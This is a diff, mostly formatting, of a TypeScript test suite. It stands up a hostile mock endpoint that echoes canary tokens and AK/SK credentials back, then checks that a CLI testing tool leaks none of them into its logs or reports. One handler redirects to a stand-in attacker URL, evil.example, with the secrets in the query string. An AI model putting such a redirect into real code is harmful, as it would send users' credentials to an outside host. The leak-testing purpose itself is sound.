@@ -50,32 +50,39 @@ function echoed(req: IncomingMessage, held: readonly string[]): string[] {
 }
 
 /** `held`: the secrets of the run this endpoint serves, first the primary credential's, then the other's. */
-const answer = (held: readonly string[]) => (req: IncomingMessage, res: ServerResponse): void => {
-  const [first = '', second = '', third = ''] = held;
-  const echo = echoed(req, held);
-  const path = req.url ?? '';
-  if (req.method === 'GET' && /\/failure-jobs(\?|$)/.test(path)) {
-    // Job ids that are credentials: the list is where a hostile endpoint puts them in front of us.
-    const ids = [first, `job-${second}`, '0f1e2d3c4b5a69788796a5b4c3d2e1f0', '1a2b3c4d5e6f708192a3b4c5d6e7f809'];
-    res.writeHead(200, { 'content-type': 'application/json', 'x-echo': third });
-    return void res.end(JSON.stringify({ failure_jobs: ids.map((job_id) => ({ job_id, status: 'failed', echo })), count: ids.length }));
-  }
-  const headers = { 'content-type': 'application/json', 'x-echo-token': String(req.headers['x-auth-token'] ?? first), 'x-echo-auth': String(req.headers.authorization ?? second), 'x-echo-b64': Buffer.from(third).toString('base64') };
-  const body = JSON.stringify({ error: { code: 'SDRS.0201', message: `echo ${echo.join(' ')}` } });
-  if (req.method === 'PUT') {
-    // A body over the read cap, a secret straddling the cap and the recorded-body cut.
-    const pad = (n: number) => 'x'.repeat(n);
-    const near64k = 64 * 1024 - 10;
-    res.writeHead(400, headers);
-    return void res.end(`${pad(near64k)}${first}${pad(1024 * 1024 - near64k - first.length - 10)}${second}${pad(4096)}`);
-  }
-  if (req.method === 'POST') {
-    res.writeHead(302, `Found ${first}`, { ...headers, location: `https://evil.example/?token=${encodeURIComponent(first)}&b=${second}` });
-    return void res.end(body);
-  }
-  res.writeHead(404, `Not Found ${third}`, headers);
-  res.end(body);
-};
+const answer =
+  (held: readonly string[]) =>
+  (req: IncomingMessage, res: ServerResponse): void => {
+    const [first = '', second = '', third = ''] = held;
+    const echo = echoed(req, held);
+    const path = req.url ?? '';
+    if (req.method === 'GET' && /\/failure-jobs(\?|$)/.test(path)) {
+      // Job ids that are credentials: the list is where a hostile endpoint puts them in front of us.
+      const ids = [first, `job-${second}`, '0f1e2d3c4b5a69788796a5b4c3d2e1f0', '1a2b3c4d5e6f708192a3b4c5d6e7f809'];
+      res.writeHead(200, { 'content-type': 'application/json', 'x-echo': third });
+      return void res.end(JSON.stringify({ failure_jobs: ids.map((job_id) => ({ job_id, status: 'failed', echo })), count: ids.length }));
+    }
+    const headers = {
+      'content-type': 'application/json',
+      'x-echo-token': String(req.headers['x-auth-token'] ?? first),
+      'x-echo-auth': String(req.headers.authorization ?? second),
+      'x-echo-b64': Buffer.from(third).toString('base64'),
+    };
+    const body = JSON.stringify({ error: { code: 'SDRS.0201', message: `echo ${echo.join(' ')}` } });
+    if (req.method === 'PUT') {
+      // A body over the read cap, a secret straddling the cap and the recorded-body cut.
+      const pad = (n: number) => 'x'.repeat(n);
+      const near64k = 64 * 1024 - 10;
+      res.writeHead(400, headers);
+      return void res.end(`${pad(near64k)}${first}${pad(1024 * 1024 - near64k - first.length - 10)}${second}${pad(4096)}`);
+    }
+    if (req.method === 'POST') {
+      res.writeHead(302, `Found ${first}`, { ...headers, location: `https://evil.example/?token=${encodeURIComponent(first)}&b=${second}` });
+      return void res.end(body);
+    }
+    res.writeHead(404, `Not Found ${third}`, headers);
+    res.end(body);
+  };
 
 function filesUnder(dir: string): string[] {
   return readdirSync(dir).flatMap((name) => {
@@ -113,11 +120,32 @@ describe('credentials echoed back by an endpoint', () => {
     proxyUrl.username = CANARIES.proxyUser;
     proxyUrl.password = CANARIES.proxyPassword;
     const dir = join(work, name);
-    const result = await runCli([
-      'run', '--endpoint', url.toString(), '--proxy', proxyUrl.toString(), '--project-id', PROJECT, ...identity, '--other-project-id', OTHER_PROJECT,
-      '--discover', '--allow-delete', '--scenario-control', '--fuzz-runs', '10',
-      '--summary-dir', dir, '--results-dir', join(dir, 'allure-results'), '--junit', join(dir, 'junit.xml'),
-    ], { cwd: work, timeoutMs: 120_000 });
+    const result = await runCli(
+      [
+        'run',
+        '--endpoint',
+        url.toString(),
+        '--proxy',
+        proxyUrl.toString(),
+        '--project-id',
+        PROJECT,
+        ...identity,
+        '--other-project-id',
+        OTHER_PROJECT,
+        '--discover',
+        '--allow-delete',
+        '--scenario-control',
+        '--fuzz-runs',
+        '10',
+        '--summary-dir',
+        dir,
+        '--results-dir',
+        join(dir, 'allure-results'),
+        '--junit',
+        join(dir, 'junit.xml'),
+      ],
+      { cwd: work, timeoutMs: 120_000 },
+    );
     runs.push(result);
     // The run reached the endpoint through the proxy, and judged what it got (a contract verdict, not a crash).
     expect(proxy.tunnels.length, result.stderr).toBeGreaterThan(0);
@@ -128,8 +156,23 @@ describe('credentials echoed back by an endpoint', () => {
 
   test('a token run and an AK/SK run each finish with a verdict', async () => {
     await runAgainstEcho('token', ['--token', CANARIES.token, '--other-token', CANARIES.otherToken], [CANARIES.token, CANARIES.otherToken, CANARIES.token]);
-    await runAgainstEcho('aksk', ['--ak', CANARIES.ak, '--sk', CANARIES.sk, '--other-ak', CANARIES.otherAk, '--other-sk', CANARIES.otherSk], [CANARIES.ak, CANARIES.sk, CANARIES.otherSk, CANARIES.otherAk]);
-    const report = await runCli(['report', '--results-dir', join(work, 'token', 'allure-results'), '--report-dir', join(work, 'allure-report'), '--history', join(work, 'history', 'history.jsonl')], { cwd: work, timeoutMs: 120_000 });
+    await runAgainstEcho(
+      'aksk',
+      ['--ak', CANARIES.ak, '--sk', CANARIES.sk, '--other-ak', CANARIES.otherAk, '--other-sk', CANARIES.otherSk],
+      [CANARIES.ak, CANARIES.sk, CANARIES.otherSk, CANARIES.otherAk],
+    );
+    const report = await runCli(
+      [
+        'report',
+        '--results-dir',
+        join(work, 'token', 'allure-results'),
+        '--report-dir',
+        join(work, 'allure-report'),
+        '--history',
+        join(work, 'history', 'history.jsonl'),
+      ],
+      { cwd: work, timeoutMs: 120_000 },
+    );
     runs.push(report);
     expect(report.code, report.stderr).toBe(0);
   }, 300_000);
@@ -141,7 +184,13 @@ describe('credentials echoed back by an endpoint', () => {
     expect(artefacts.some((f) => f.endsWith('conformance-outcomes.json'))).toBe(true);
     expect(artefacts.some((f) => f.endsWith('junit.xml'))).toBe(true);
     expect(artefacts.some((f) => f.endsWith('history.jsonl'))).toBe(true);
-    const texts = [...runs.flatMap((r) => [['stdout', r.stdout], ['stderr', r.stderr]]), ...artefacts.map((f) => [f, readFileSync(f, 'latin1')])];
+    const texts = [
+      ...runs.flatMap((r) => [
+        ['stdout', r.stdout],
+        ['stderr', r.stderr],
+      ]),
+      ...artefacts.map((f) => [f, readFileSync(f, 'latin1')]),
+    ];
     const hits = texts.filter(([, text]) => leaks(text as string, canary)).map(([where]) => where);
     expect(hits, `${name} leaked`).toEqual([]);
   });
